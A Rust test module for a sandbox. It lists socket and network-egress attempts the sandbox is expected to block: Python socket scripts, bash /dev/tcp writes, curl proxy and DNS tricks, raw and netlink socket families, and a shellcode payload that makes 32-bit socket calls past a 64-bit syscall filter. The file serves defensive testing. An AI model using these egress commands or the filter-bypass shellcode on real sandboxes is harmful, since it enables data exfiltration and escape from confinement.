//! Sockets of every family, and all ways to send something out.

use crate::sandbox::attack::{Attack, Holds, Kind, attack, calls, py, run, sh, tries};

const CONNECT: &str = "s = socket.create_connection(('127.0.0.1', {TCP}), 3)\ns.send(b'x')";
const SEND: &str = "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('127.0.0.1', {UDP}))";
const PAIR: &str = "import socket, asyncio\na, b = socket.socketpair()\na.send(b'pair')\nprint(b.recv(9))\n\
                    asyncio.run(asyncio.sleep(0))";

pub fn kinds() -> Vec<Kind> {
    vec![
        Kind {
            id: "S25-S27",
            aim: "open a socket, send a packet",
            grants: &[],
            holds: Holds::Sandbox,
            twin: (py(PAIR), "pair"),
            attacks: [internet(), local(), families(), by_programs()].into_iter().flatten().collect(),
        },
        Kind {
            id: "S25",
            aim: "reach more than the network",
            grants: &["net"],
            holds: Holds::SandboxOnline,
            twin: (py(&format!("import socket\n{CONNECT}\nprint('connected')")), "connected"),
            attacks: local().into_iter().chain(families_beyond_internet()).collect(),
        },
    ]
}

fn internet() -> Vec<Attack> {
    [
        CONNECT,
        SEND,
        "s = socket.socket()\ns.setblocking(False)\ns.connect_ex(('127.0.0.1', {TCP}))",
        "s = socket.socket()\ns.listen()",
        "s = socket.socket()\ns.bind(('127.0.0.1', 0))",
        "s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)",
        "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)",
        "s = socket.socket()\ns.sendto(b'x', 0x20000000, ('127.0.0.1', {TCP}))",
        "import http.client\nhttp.client.HTTPConnection('127.0.0.1', {TCP}, timeout=1).request('GET', '/')",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('127.0.0.1', {UDP}))\ns.send(b'secret')",
    ]
    .map(|script| attack(tries(script)))
    .into()
}

fn local() -> Vec<Attack> {
    [
        "s = socket.socket(socket.AF_UNIX)\ns.connect('{OUT}/socket')",
        "s = socket.socket(socket.AF_UNIX)\ns.connect('{TMP}/socket')",
        "s = socket.socket(socket.AF_UNIX)\ns.connect('\\0{ABSTRACT}')",
        "s = socket.socket(socket.AF_UNIX)\ns.connect('/proc/self/root{OUT}/socket')",
        "s = socket.socket(socket.AF_UNIX)\nos.chdir('{OUT}')\ns.connect('socket')",
        "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)",
        "s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)",
    ]
    .map(|script| attack(tries(script)))
    .into()
}

/// Families and kinds of sockets that say little of themselves: getting one is the harm.
fn families() -> Vec<Attack> {
    let mut attacks = families_beyond_internet();
    attacks.push(attack(tries("socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)")));
    attacks
}

fn families_beyond_internet() -> Vec<Attack> {
    let socket = |family: i32, kind: i32, protocol: i32| {
        tries(&format!(
            "L = ctypes.CDLL(None, use_errno=True)\nr = L.socket({family}, {kind}, {protocol})\n\
             e = ctypes.get_errno() if r < 0 else 0\nprint(r, e)\nassert e != 1"
        ))
    };
    // Raw sockets, several kinds of netlink, packets, ALG, vsock, XDP, Bluetooth, TIPC, MCTP.
    let kinds = [
        (libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP),
        (libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_TCP),
        (libc::AF_INET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, libc::IPPROTO_RAW),
        (libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_KOBJECT_UEVENT),
        (libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_AUDIT),
        (libc::AF_NETLINK, libc::SOCK_DGRAM, libc::NETLINK_GENERIC),
        (libc::AF_PACKET, libc::SOCK_RAW, 768),
        (libc::AF_ALG, libc::SOCK_SEQPACKET, 0),
        (libc::AF_VSOCK, libc::SOCK_STREAM, 0),
        (libc::AF_XDP, libc::SOCK_RAW, 0),
        (libc::AF_BLUETOOTH, libc::SOCK_RAW, 0),
        (libc::AF_TIPC, libc::SOCK_STREAM, 0),
        (45, libc::SOCK_DGRAM, 0),
    ];
    kinds.map(|(family, kind, protocol)| attack(socket(family, kind, protocol))).into()
}

fn by_programs() -> Vec<Attack> {
    vec![
        attack(run(&["bash", "-c", "echo x > /dev/tcp/127.0.0.1/{TCP}"])),
        attack(run(&["bash", "-c", "echo x > /dev/udp/127.0.0.1/{UDP}"])),
        attack(run(&["curl", "-sm", "2", "http://127.0.0.1:{TCP}/"])),
        attack(run(&["curl", "-sm", "2", "--unix-socket", "{OUT}/socket", "http://x/"])),
        attack(run(&["curl", "-sm", "2", "--abstract-unix-socket", "{ABSTRACT}", "http://x/"])),
        attack(run(&["git", "ls-remote", "git://127.0.0.1:{TCP}/x"])),
        attack(run(&["perl", "-MIO::Socket::INET", "-e", "IO::Socket::INET->new('127.0.0.1:{TCP}')"])),
        attack(sh("env all_proxy=http://127.0.0.1:{TCP} curl -sm 2 http://example.org/")),
        attack(run(&["curl", "-sm", "2", "--dns-servers", "127.0.0.1:{UDP}", "http://secret.example.org/"]))
            .fails_bare("this build of curl cannot be told"),
        attack(run(&["getent", "hosts", "secret.example.org"])).fails_bare("nobody listens there"),
        attack(calls(libc::SYS_io_uring_setup, "8, ctypes.byref((ctypes.c_char * 120)())")),
        attack(calls(0x4000_0000 + libc::SYS_socket, "2, 1, 0")).fails_bare("this kernel may have no such table"),
        attack(py(INTERRUPT)).fails_bare("this kernel may have no such calls"),
    ]
}

/// The socket call of 32-bit programs, which a filter for the 64-bit ones does not know.
const INTERRUPT: &str = "import mmap, ctypes\nm = mmap.mmap(-1, 4096, prot=7)\n\
    m.write(bytes.fromhex('53b867010000bb02000000b90100000031d2cd805bc3'))\n\
    f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))\n\
    r = f()\nprint(r)\nif r >= 0: print({HARM})";
